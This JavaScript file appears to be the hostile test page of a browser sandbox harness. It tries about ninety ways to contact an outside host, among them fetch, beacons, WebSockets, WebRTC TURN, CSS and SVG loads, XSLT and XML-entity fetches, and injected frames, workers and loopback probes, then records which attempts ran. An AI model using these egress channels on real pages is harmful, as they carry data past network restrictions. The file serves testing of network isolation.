// The hostile page itself: single channels by hand, then realm() in frames and workers of every kind.
// report(name, value) tells the test what was tried. Loaded after report.js and attack.js.
const source = fetch('/attack.js').then(function (r) { return r.text() })
const tried = new Set()
const missing = new Set()

function el(tag, attributes, parent, text) {
  const e = document.createElement(tag)
  for (const k of Object.keys(attributes || {})) e.setAttribute(k, attributes[k])
  if (text) e.textContent = text
  ;(parent || document.body).append(e)
  return e
}

function css(text) { el('style', {}, document.head, text); const d = el('div', { class: 'styled' }, null, 'x'); return d }

const link = function (rel, more) { return function (u) { el('link', Object.assign({ rel: rel, href: u }, more), document.head) } }
const play = function (u) { const v = el('video', { preload: 'auto', src: u, muted: '' }); v.load(); v.play().catch(function () {}) }

// Each is called with an http URL and the host alone.
const singles = {
  'fetch': function (u) { return fetch(u) },
  'fetch-no-cors': function (u) { return fetch(u, { mode: 'no-cors', credentials: 'include' }) },
  'fetch-keepalive': function (u) { return fetch(u, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }) },
  'fetch-https': function (u, h) { return fetch('https://' + h + '/', { mode: 'no-cors' }) },
  'fetch-later': function (u) { fetchLater(u, { activateAfter: 0 }) },
  'xhr': function (u) { const x = new XMLHttpRequest(); x.open('GET', u); x.send() },
  'beacon': function (u) { navigator.sendBeacon(u, 'x') },
  'eventsource': function (u) { return void new EventSource(u) },
  'ws': function (u, h) { return void new WebSocket('ws://' + h + '/') },
  'wss': function (u, h) { return void new WebSocket('wss://' + h + '/') },
  'ws-stream': function (u, h) { return new WebSocketStream('ws://' + h + '/').opened },
  'webtransport': function (u, h) { const t = new WebTransport('https://' + h + '/'); t.closed.catch(function () {}); return t.ready },
  'rtc-stun': function (u, h) { return rtc({ urls: 'stun:' + h + ':3478' }) },
  'rtc-turn': function (u, h) { return rtc({ urls: 'turn:' + h + ':3478?transport=tcp', username: 'secret', credential: 'x' }) },
  'img': function (u) { new Image().src = u },
  'img-srcset': function (u) { el('img', { srcset: u + ' 1x' }) },
  'picture': function (u) { const p = el('picture'); el('source', { srcset: u }, p); el('img', {}, p) },
  'input-image': function (u) { el('input', { type: 'image', src: u }) },
  'body-background': function (u) { document.body.setAttribute('background', u) },
  'css-background': function (u) { css('.styled { background: url("' + u + '") }') },
  'css-image-set': function (u) { css('.styled::after { content: image-set(url("' + u + '") 1x) }') },
  'css-import': function (u) { css('@import url("' + u + '.css");') },
  'css-font': function (u) { css('@font-face { font-family: "' + u + '"; src: url("' + u + '") } .styled { font-family: "' + u + '" }') },
  'css-cursor': function (u) { css('.styled { cursor: url("' + u + '"), auto; list-style-image: url("' + u + '?l") }') },
  'css-mask': function (u) { css('.styled { -webkit-mask-image: url("' + u + '"); mask-image: url("' + u + '") }') },
  'css-filter': function (u) { css('.styled { filter: url("' + u + '.svg#f") }') },
  'css-shape': function (u) { css('.styled { float: left; shape-outside: url("' + u + '") }') },
  'font-face': function (u) { const f = new FontFace('late', 'url("' + u + '")'); document.fonts.add(f); return f.load() },
  'link-stylesheet': function (u) { link('stylesheet')(u + '.css') },
  'link-preload': link('preload', { as: 'script' }),
  'link-preload-fetch': link('preload', { as: 'fetch', crossorigin: '' }),
  'link-modulepreload': function (u) { link('modulepreload')(u + '.js') },
  'link-preconnect': link('preconnect'),
  'link-preconnect-https': function (u, h) { link('preconnect')('https://' + h + '/') },
  'link-dns': link('dns-prefetch'),
  'link-prefetch': link('prefetch'),
  'link-prerender': link('prerender'),
  'link-icon': function (u) { link('icon')(u + '.png') },
  'link-touch-icon': function (u) { link('apple-touch-icon')(u + '.png') },
  'link-manifest': link('manifest'),
  'link-dictionary': link('compression-dictionary'),
  'audio': function (u) { const a = new Audio(u); a.play().catch(function () {}) },
  'video': play,
  'video-source': function (u) { const v = el('video'); el('source', { src: u, type: 'video/mp4' }, v); v.load() },
  'video-poster': function (u) { el('video', { poster: u }) },
  'video-track': function (u) { const v = el('video', { src: '/media.mov' }); const t = el('track', { src: u, default: '', kind: 'subtitles' }, v); t.track.mode = 'showing' },
  'media-rtsp': function (u, h) { play('rtsp://' + h + '/x') },
  'media-rtmp': function (u, h) { play('rtmp://' + h + '/x') },
  'media-udp': function (u, h) { play('udp://' + h + ':5004'); play('tcp://' + h + ':5004'); play('srt://' + h + ':5004') },
  'media-icy': function (u, h) { play('icy://' + h + '/x'); play('shout://' + h + '/x'); play('mms://' + h + '/x') },
  'media-gst': function (u, h) { play('webkit+http://' + h + '/x'); play('http+webkit://' + h + '/x'); play('souphttp://' + h + '/x') },
  'media-session': function (u) { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: u, sizes: '96x96', type: 'image/png' }] }) },
  'script': function (u) { el('script', { src: u + '.js' }) },
  'script-module': function (u) { el('script', { type: 'module', src: u + '.js' }) },
  'script-import': function (u) { return import(u + '.js') },
  'script-svg': function (u) { const s = svg('script'); s.setAttributeNS('http://www.w3.org/1999/xlink', 'href', u + '.js') },
  'worklet-audio': function (u) { return new AudioContext().audioWorklet.addModule(u + '.js') },
  'worklet-css': function (u) { return CSS.paintWorklet.addModule(u + '.js') },
  'worker-foreign': function (u) { return void new Worker(u + '.js') },
  'svg-image': function (u) { svg('image').setAttribute('href', u) },
  'svg-use': function (u) { svg('use').setAttribute('href', u + '.svg#x') },
  'svg-feimage': function (u) { const f = document.createElementNS(SVG, 'feImage'); f.setAttribute('href', u); svg('filter').append(f); f.parentNode.id = 'fe'; css('.styled { filter: url(#fe) }') },
  'svg-in-img': function (u) { new Image().src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="' + SVG + '" width="9" height="9"><image href="' + u + '" width="9" height="9"/></svg>') },
  'object': function (u) { el('object', { data: u, type: 'text/html' }) },
  'embed': function (u) { el('embed', { src: u, type: 'text/html' }) },
  'iframe': function (u) { el('iframe', { src: u }) },
  'iframe-fenced': function (u, h) { const f = el('fencedframe'); f.config = new FencedFrameConfig('https://' + h + '/') },
  'iframe-portal': function (u) { el('portal', { src: u }) },
  'frame-form': function (u) { el('iframe', { name: 'sink' }); el('form', { method: 'post', action: u, target: 'sink' }).submit() },
  'frame-form-get': function (u) { el('iframe', { name: 'sink2' }); el('form', { action: u, target: 'sink2' }).submit() },
  'frame-open': function (u) { el('iframe', { name: 'sink3' }); open(u, 'sink3') },
  'frame-a': function (u) { el('iframe', { name: 'sink4' }); el('a', { href: u, target: 'sink4' }, null, 'x').click() },
  'a-ping': function (u) { el('a', { href: '#here', ping: u }, null, 'x').click() },
  'area-ping': function (u) { el('area', { href: '#here', ping: u }, el('map')).click() },
  'attribution': function (u) { el('img', { src: '/x.png', attributionsrc: u }) },
  'speculation-prefetch': function (u) { el('script', { type: 'speculationrules' }, null, JSON.stringify({ prefetch: [{ source: 'list', urls: [u], eagerness: 'immediate' }] })) },
  'speculation-prerender': function (u) { el('script', { type: 'speculationrules' }, null, JSON.stringify({ prerender: [{ source: 'list', urls: [u], eagerness: 'immediate' }] })) },
  'payment': function (u, h) { return new PaymentRequest([{ supportedMethods: 'https://' + h + '/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment() },
  'fedcm': function (u, h) { return navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + h + '/fedcm.json', clientId: '1' }] } }) },
  'notification': function (u) { return void new Notification('x', { icon: u }) },
  'background-fetch': function (u) { return navigator.serviceWorker.ready.then(function (r) { return r.backgroundFetch.fetch('x', [u]) }) },
  'xslt': function (u) {
    const parse = function (t) { return new DOMParser().parseFromString(t, 'text/xml') }
    const p = new XSLTProcessor()
    p.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="' + u + '.xsl"/><xsl:template match="/"><xsl:copy-of select="document(\'' + u + '\')"/></xsl:template></xsl:stylesheet>'))
    p.transformToDocument(parse('<x/>'))
  },
  'xml-entity': function (u) { new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e SYSTEM "' + u + '">]><x>&e;</x>', 'text/xml') },
  'csp-report': function (u) { el('iframe', { srcdoc: '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri ' + u + '"><img src="/x.png">' }) },
  'wasm-stream': function (u) { return WebAssembly.compileStreaming(fetch(u)) },
  'html-import': function (u) { el('div').innerHTML = '<img src="' + u + '">' },
  'template-shadow': function (u) { const s = el('div').attachShadow({ mode: 'closed' }); s.innerHTML = '<style>@import url("' + u + '.css")</style><img src="' + u + '.png">' }
}

const SVG = 'http://www.w3.org/2000/svg'
let root = null
function svg(tag) {
  if (!root) { root = document.createElementNS(SVG, 'svg'); document.body.append(root) }
  const e = document.createElementNS(SVG, tag)
  e.setAttribute('width', '9')
  e.setAttribute('height', '9')
  root.append(e)
  return e
}

function rtc(server) {
  const c = new RTCPeerConnection({ iceServers: [server] })
  c.createDataChannel('x')
  return c.createOffer().then(function (o) { return c.setLocalDescription(o) })
}

function single(name, host) {
  tried.add(name)
  const h = host(name)
  try {
    const r = singles[name]('http://' + h + '/' + name, h)
    if (r && r.then) r.then(function () {}, function () {})
  } catch (e) {
    if (e instanceof ReferenceError) missing.add(name)
  }
}

// frames answers promises that end when each frame has loaded and attacked.
async function frames(mode, host) {
  const text = await source
  const attack = function (prefix) { return '<script>' + text + ';realm(self, "' + prefix + '", hosts("' + mode + '"))</' + 'script>' }
  const shown = function (attributes, after) {
    return new Promise(function (ok) {
      const f = document.createElement('iframe')
      f.onload = f.onerror = function () {
        if (after) try { realm(f.contentWindow, after, host) } catch (e) { /* another origin */ }
        ok()
      }
      for (const k of Object.keys(attributes)) f.setAttribute(k, attributes[k])
      document.body.append(f)
    })
  }
  const blob = function (t, type) { return URL.createObjectURL(new Blob([t], { type: type })) }
  const early = el('iframe') // the initial about:blank, before any load event
  realm(early.contentWindow, 'finitial-', host)
  const detached = el('iframe')
  const kept = detached.contentWindow
  const suffix = '-' + mode
  const all = [
    shown({ src: 'about:blank' }, 'fabout-'),
    shown({ srcdoc: attack('fsrcdoc-') }),
    shown({ src: 'data:text/html,' + encodeURIComponent(attack('fdata-')) }),
    shown({ src: blob(attack('fblob-'), 'text/html') }),
    shown({ src: blob('<svg xmlns="' + SVG + '">' + attack('fblobsvg-').replace('<script>', '<script><![CDATA[').replace('</' + 'script>', ']]></' + 'script>') + '</svg>', 'image/svg+xml') }),
    shown({ src: 'javascript:"<p>x</p>"' }, 'fjs-'),
    shown({ src: '/frame.html?mode=' + mode }),
    shown({ src: '/frame.svg?mode=' + mode }),
    shown({ src: '/frame' + suffix + '.xhtml?mode=' + mode }),
    shown({ src: '/not-there' }, 'ferror-'),
    shown({ src: '/attack.js' }, 'ftext-'),
    shown({ src: '/__conch/page.js' }, 'finternal-'),
    shown({ sandbox: 'allow-scripts', srcdoc: attack('fsandbox-') }),
    shown({ src: '/static' + suffix + '.html' }),
    shown({ src: '/refresh' + suffix + '.html' }),
    shown({ src: '/away' + suffix + '.html' })
  ]
  realm(kept, 'fgone-', host)
  detached.remove()
  return Promise.all(all)
}

function workers(mode) {
  const begun = function (w) { return new Promise(function (ok) { (w.port || w).onmessage = ok; w.onerror = ok }) }
  const made = function (f) { try { return begun(f()) } catch (e) { return null } }
  return Promise.all([
    made(function () { return new Worker('/worker.js?nested=1&as=wfile&mode=' + mode) }),
    made(function () { return new Worker('/module.js?mode=' + mode, { type: 'module' }) }),
    made(function () { return new SharedWorker('/worker.js?as=wshared&mode=' + mode) }),
    source.then(function (text) {
      const run = function (prefix) { return text + ';realm(self, "' + prefix + '", hosts("' + mode + '")); postMessage("begun")' }
      return Promise.all([
        made(function () { return new Worker(URL.createObjectURL(new Blob([run('wblob-')]))) }),
        made(function () { return new Worker('data:text/javascript,' + encodeURIComponent(run('wdata-'))) })
      ])
    })
  ])
}

// loopback tries the other listeners of this computer.
function loopback() {
  for (const h of LOOPBACK_HOSTS) {
    const f = el('iframe')
    realm(f.contentWindow, '', function () { return h })
    realm(window, '', function () { return h })
    el('iframe', { src: 'http://' + h + '/frame' })
  }
}

async function attackAll() {
  const waits = []
  for (const mode of ['name', 'ip']) {
    const host = hosts(mode)
    for (const name of Object.keys(singles)) single(name, host)
    realm(window, 'top-', host)
    waits.push(frames(mode, host), workers(mode))
    for (const kind of ['hls.m3u8', 'dash.mpd', 'sdp.sdp', 'asx.asx', 'mov.mov', 'plain.mp4', 'list.mp4']) play('/media-' + mode + '-' + kind)
    for (const kind of ['hls.m3u8', 'dash.mpd', 'sdp.sdp']) {
      // The same text under a type and name of the page's own choice.
      waits.push(fetch('/media-' + mode + '-' + kind).then(function (r) { return r.text() }).then(function (t) {
        for (const type of ['application/vnd.apple.mpegurl', 'application/dash+xml', 'application/sdp', '']) {
          play(URL.createObjectURL(new Blob([t], { type: type })))
          play('data:' + (type || 'video/mp4') + ';base64,' + btoa(t))
        }
      }))
    }
  }
  loopback()
  const registered = navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').then(function () { return 'registered' }, function (e) { return e.name })
  const cap = new Promise(function (ok) { setTimeout(ok, 40000, 'slow') })
  report('waited', await Promise.race([Promise.all(waits).then(function () { return 'all' }), cap]))
  report('service worker', await Promise.race([registered, cap]) || 'absent')
  report('tried', Array.from(tried))
  report('missing', Array.from(missing))
}
